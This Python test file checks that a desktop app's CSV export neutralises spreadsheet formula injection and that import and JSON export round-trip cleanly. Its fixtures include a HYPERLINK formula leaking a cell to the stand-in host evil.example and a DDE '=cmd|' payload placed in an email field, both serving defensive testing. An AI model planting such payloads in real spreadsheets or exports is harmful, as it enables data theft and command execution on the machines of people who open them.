"""Spreadsheet formula injection: exported CSV cells that a spreadsheet would run as a formula get a leading
apostrophe, an import takes it off again (a round trip gives the same accounts), and JSON is untouched."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homelog_desktop.services.accounts import AccountService
from homelog_desktop.services.transfer import ExportOptions, OnExisting, TransferFormat
from homelog_desktop.services.transfer.formats import FORMULA_STARTS, guard_cell, unguard_cell
from homelog_desktop.services.workspace import Workspace
from tests.conftest import GOOD_PASSWORD
from tests.services.transfer.conftest import export_text, snapshot

# Names a spreadsheet would run (the issue's =, +, -, @), and names that only look like guarded ones.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&G2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "'",
    "Ann = Bob",
]


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "é"]), max_size=8) | st.text())
def test_guarded_cells_never_start_a_formula_and_come_back_unchanged(text: str) -> None:
    guarded = guard_cell(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) == text
    if not text.startswith((*FORMULA_STARTS, "'")):
        assert guarded == text  # ordinary text is written as it is


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


async def seed_formulas(service: AccountService) -> None:
    for number, name in enumerate(FORMULA_NAMES):
        await service.create(f"user{number}@example.org", name, GOOD_PASSWORD if number % 2 else None)
    await service.create("=cmd|'/C.calc'!A0@example.org", "Eve")  # an address can start a formula too


@pytest.mark.asyncio
async def test_formula_cells_are_neutralised_and_a_round_trip_keeps_them(
    service: AccountService, workspace: Workspace, target: Workspace, tmp_path: Path
) -> None:
    await seed_formulas(service)
    path = tmp_path / "accounts.csv"
    await workspace.transfer.export_to_file(ExportOptions(include_hashes=True), path)
    rows = cells(path.read_text(encoding="utf-8"))
    names = [row[2] for row in rows[1:]]
    assert names[:4] == [f"'{name}" for name in FORMULA_NAMES[:4]]
    assert names[4:9] == ["''=already quoted", "'''=twice", "'plain apostrophe", "'", "Ann = Bob"]
    assert rows[-1][1] == "'=cmd|'/C.calc'!A0@example.org"
    # Nothing in the file can run as a formula, so no formula can pull the hash in the next cell.
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]

    report = await target.transfer.import_file(path, OnExisting.ABORT)
    assert report.written
    assert snapshot(await target.accounts.list_page()) == snapshot(await service.list_page())
    assert await target.accounts.check_password(2, GOOD_PASSWORD)


@pytest.mark.asyncio
async def test_tab_and_carriage_return_at_the_start_are_neutralised_too(
    service: AccountService, workspace: Workspace
) -> None:
    await service.create("tab@example.org", "Tab")
    await service.create("cr@example.org", "Cr")
    # Names home-log (or plain SQL) wrote: the app's own rules would refuse these control characters.
    with contextlib.closing(sqlite3.connect(service.path)) as connection, connection:
        connection.execute("UPDATE users SET username = char(9) || '=1+1' WHERE id = 1")
        connection.execute("UPDATE users SET username = char(13) || '=1+1' WHERE id = 2")
    names = [row[2] for row in cells(await export_text(workspace))[1:]]
    assert names == ["'\t=1+1", "'\r=1+1"]


@pytest.mark.asyncio
async def test_json_export_is_untouched(service: AccountService, workspace: Workspace) -> None:
    await seed_formulas(service)
    records = json.loads(await export_text(workspace, format=TransferFormat.JSON))
    assert [record["username"] for record in records][: len(FORMULA_NAMES)] == FORMULA_NAMES
    assert records[-1]["email"] == "=cmd|'/C.calc'!A0@example.org"
